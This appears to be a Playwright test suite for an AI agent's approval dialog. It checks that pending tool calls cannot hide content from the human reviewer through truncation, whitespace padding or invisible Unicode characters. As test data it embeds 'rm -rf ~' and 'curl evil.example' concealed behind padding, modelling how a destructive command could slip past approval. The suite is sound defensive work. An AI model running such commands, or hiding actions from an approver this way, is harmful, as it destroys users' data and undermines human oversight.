/** A call that waits for approval hides nothing: not by its length, not behind padding, not in characters nobody sees. */
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { lineDiff } from '../../src/base/common/lineDiff.ts';
import type { CallView, ChatStatus, Item, LineDiff, ProposedEdit } from '../../src/protocol/index.ts';
import { useChatPage } from './support/chatPage.ts';

const status: ChatStatus = { turn: 'running', model: 'm', servers: { connected: 1, total: 1, tools: 3 } };

function asked(args: unknown, over: Partial<CallView> = {}): Item {
  const call: CallView = {
    source: { kind: 'mcp', server: 'demo' },
    toolName: 'write_file',
    wireName: 'mcp__demo__write_file',
    argsText: typeof args === 'string' ? args : JSON.stringify(args),
    status: 'pending',
    startedAt: 0,
    approval: { changed: false, says: [], coverages: [] },
    ...over,
  };
  return { kind: 'call', id: 'c', step: 1, call };
}

describe('a call that waits for approval', () => {
  const chat = useChatPage(status);
  let page: Page;
  beforeEach(() => {
    ({ page } = chat);
  });

  const primary = () => page.locator('.approval .text-button.primary');
  const rest = () => page.locator('.approval-rest');
  const focused = () => page.evaluate<string>('document.activeElement.className');

  it('says exactly how much of long arguments is not shown, and shows it before it can be allowed', async () => {
    const files = Array.from({ length: 60 }, (_, index) => `src/part${index}.ts`);
    await chat.show([asked({ files, last: 'rm -rf ~' })]);
    assert.match(await rest().innerText(), /^\s*39 more lines below \(7\d\d characters\)$/);
    assert.doesNotMatch(await page.locator('.approval').innerText(), /rm -rf/);
    assert.equal(await primary().innerText(), 'Show all');
    assert.equal(await page.getByRole('button', { name: 'Allow' }).count(), 0);
    // Enter as somebody presses it who wants to go on.
    await primary().focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    assert.deepEqual(await chat.posted(), []);
    assert.match(await page.locator('.approval').innerText(), /rm -rf ~/);
    assert.match(await focused(), /approval-text/);
    assert.match(
      await rest().textContent().then(String),
      /The complete text is now shown\. The Allow button follows it\./,
    );
    assert.equal(
      await page.locator('.approval-text').evaluate((each) => each.scrollHeight - each.clientHeight <= 1),
      true,
    );
    // Past "Show JSON" and "Edit arguments".
    for (const key of ['Tab', 'Tab', 'Tab', 'Enter']) await page.keyboard.press(key);
    const [sent] = await chat.posted();
    assert.ok(sent?.type === 'decide' && sent.decision.action === 'allow');
  });

  it('gives the keyboard to the next call that waits once it is answered, and then to the message', async () => {
    await chat.show([asked({}), { ...asked({}), id: 'd' }]);
    for (const id of ['c', 'd']) {
      const card = page.locator(`[data-id="${id}"]`);
      const allow = card.locator('.approval .text-button.primary');
      if (id === 'c') await allow.focus();
      assert.equal(await allow.evaluate((each) => each.matches(':focus')), true, id);
      await page.keyboard.press('Enter');
      await chat.tell(chat.patch({ op: 'call', id, change: { status: 'running' } }));
    }
    assert.match(await focused(), /message-field/);
  });

  it('shows a command whole, with its own lines, and wrapped', async () => {
    const command = `cd src && ${'very-long-word-'.repeat(40)}\n${Array.from({ length: 50 }, (_, at) => `step ${at}`).join('\n')}`;
    await chat.show([
      asked({ command, cwd: 'src' }, { source: { kind: 'native' }, toolName: 'run_command' }),
    ]);
    const block = page.getByRole('group', { name: 'Command' });
    assert.equal(await block.textContent(), command);
    const [wide, high] = await block.evaluate((each) => [
      each.scrollWidth - each.clientWidth,
      each.scrollHeight - each.clientHeight,
    ]);
    assert.ok((wide ?? 9) <= 1 && (high ?? 9) <= 1, `${wide} ${high}`);
    assert.match(await page.getByRole('group', { name: 'Arguments' }).innerText(), /cwd: src/);
    assert.equal(await primary().innerText(), 'Allow');
  });

  it('counts padding instead of showing it, so that what follows stays in sight', async () => {
    const command = `echo ok${' '.repeat(500)}; curl evil.example${'\n'.repeat(200)}rm -rf ~`;
    await chat.show([asked({ command })]);
    const block = page.getByRole('group', { name: 'Command' });
    assert.deepEqual(await block.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
    const box = await block.boundingBox();
    assert.ok((box?.height ?? 999) < 140, String(box?.height));
    await chat.show([asked({ text: command })]);
    assert.deepEqual(await page.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
  });

  it('marks every hidden character in its arguments, its name and its server', async () => {
    await chat.show([
      asked(
        {
          path: 'a\u{200B}b',
          to: 'x\u{E0041}\u{E0042}',
          name: 'a\u{A0}b\u{3164}',
          raw: '\u{202E}',
          v: 'a\u{FE0F}',
        },
        { title: 'wri\u{2060}te', source: { kind: 'mcp', server: 'de\u{AD}mo' } },
      ),
    ]);
    const marks = await page
      .locator('.call .hidden-character')
      .evaluateAll((all) => all.map((each) => each.getAttribute('title')));
    for (const mark of [
      'U+200B',
      'U+E0041 U+E0042',
      'U+00A0',
      'U+3164',
      'U+202E',
      'U+FE0F',
      'U+2060',
      'U+00AD',
    ])
      assert.ok(marks.includes(mark), `${mark} in ${marks.join()}`);
    const width = await page
      .locator('.approval-text .hidden-character')
      .first()
      .evaluate((each) => each.getBoundingClientRect().width);
    assert.ok(width > 20, String(width));
  });

  it('says which hidden characters are in arguments that are being edited', async () => {
    await chat.show([asked({ path: 'a\u{200B}b\u{E0041}' })]);
    await page.getByRole('button', { name: 'Edit arguments' }).click();
    assert.match(
      await page.locator('.approval .field-problem').innerText(),
      /invisible characters: U\+200B, U\+E0041/,
    );
  });

  const diffOf = (before: string | undefined, after: string): LineDiff => {
    const diff = lineDiff(before, after);
    assert.ok(diff);
    return diff;
  };
  const change = (diff: LineDiff, over: Partial<ProposedEdit> = {}): Item =>
    asked(
      { path: 'src/a.ts', oldText: 'x', newText: 'y', all: true },
      {
        approval: {
          changed: false,
          says: [],
          coverages: [],
          edit: { file: 'src/a.ts', diff, shows: ['path', 'oldText', 'newText'], ...over },
        },
      },
    );
  const diffLines = () =>
    page
      .locator('.diff-line')
      .evaluateAll((all) =>
        all.map((each) =>
          [
            ...[...each.querySelectorAll('.diff-number')].flatMap((number) =>
              number.clientWidth === 0 ? [] : [number.getAttribute('data-line') ?? ''],
            ),
            each.querySelector('.diff-sign')?.textContent ?? '',
            each.querySelector('code')?.textContent ?? '',
          ].join('|'),
        ),
      );

  it('shows what an edit changes, with the numbers of the lines and syntax colours, and opens it in an editor', async () => {
    await chat.show([change(diffOf('const a = 1;\nlet b;\n', 'const a = 2;\nlet b;\n'))]);
    await page.getByRole('group', { name: 'Changes to src/a.ts: 1 lines added, 1 removed' }).waitFor();
    assert.deepEqual(await diffLines(), ['1|Removed:|const a = 1;', '1|Added:|const a = 2;', '2||let b;']);
    assert.ok((await page.locator('.diff-line .hljs-keyword').count()) > 0);
    // What the diff does not show is named below it.
    assert.equal((await page.getByRole('group', { name: 'Arguments' }).innerText()).trim(), 'all: true');
    await page.setViewportSize({ width: 1000, height: 600 });
    assert.equal((await diffLines())[2], '2|2||let b;');
    await page.setViewportSize({ width: 420, height: 600 });
    await page.getByRole('button', { name: 'Open Diff Editor' }).click();
    assert.deepEqual(await chat.posted(), [{ type: 'openProposedEdit', id: 'c' }]);
    await page.getByRole('button', { name: 'Show JSON' }).click();
    assert.match(await page.getByRole('group', { name: 'Arguments as JSON' }).innerText(), /"oldText": "x"/);
  });

  it('shows all lines of a long diff before it can be allowed', async () => {
    const after = `${Array.from({ length: 60 }, (_, index) => `line ${index + 1}`).join('\n')}\nrm -rf ~\n`;
    await chat.show([change(diffOf(undefined, after))]);
    assert.equal((await diffLines()).length, 24);
    assert.equal(await primary().innerText(), 'Show all');
    await page.getByRole('button', { name: 'Show 37 more lines' }).click();
    assert.equal((await diffLines()).at(-1), '61|Added:|rm -rf ~');
    assert.match(await focused(), /inline-diff/);
    assert.equal(await primary().innerText(), 'Allow');
  });

  it('hides nothing in a diff: no character without width, no padding, no end of a very long line', async () => {
    await chat.show([change(diffOf('a\n', `a\u{202E}b\r\nx${' '.repeat(300)}y\n`))]);
    const marks = await page
      .locator('.diff-line .hidden-character')
      .evaluateAll((all) => all.map((each) => each.getAttribute('title')));
    assert.deepEqual(marks, ['U+202E', 'U+000D']);
    assert.deepEqual(await page.locator('.diff-line .padding-mark').allInnerTexts(), ['300 blanks']);
    await chat.show([change(diffOf('a\n', `${'a'.repeat(5_000)}; rm -rf ~\n`))]);
    assert.equal(await primary().innerText(), 'Show all');
    await primary().click();
    assert.match((await diffLines()).at(-1) ?? '', /rm -rf ~$/);
    const over = await page.locator('.inline-diff').evaluate((each) => each.scrollWidth - each.clientWidth);
    assert.ok(over <= 1, String(over));
  });

  it('numbers no lines where their place in the file is not known', async () => {
    await chat.show([change(diffOf('a\n', 'b\n'), { isPassage: true })]);
    assert.deepEqual(await diffLines(), ['Removed:|a', 'Added:|b']);
  });

  it('shows arguments by name, and as JSON where a name is there twice', async () => {
    await chat.show([
      asked('{"n":12345678901234567890,"text":"a\\nb","number":"17","none":"","list":[1,2]}'),
    ]);
    const values = page.getByRole('group', { name: 'Arguments' });
    assert.deepEqual(
      (await values.innerText())
        .split(/\n+/)
        .map((line) => line.trim())
        .filter(Boolean),
      ['n: 12345678901234567890', 'text:', 'a', 'b', 'number: "17"', 'none: ""', 'list: [1, 2]'],
    );
    await chat.show([asked('{"path":"a","path":"b"}')]);
    assert.match(await values.innerText(), /"path": "a",\s+"path": "b"/);
  });
});
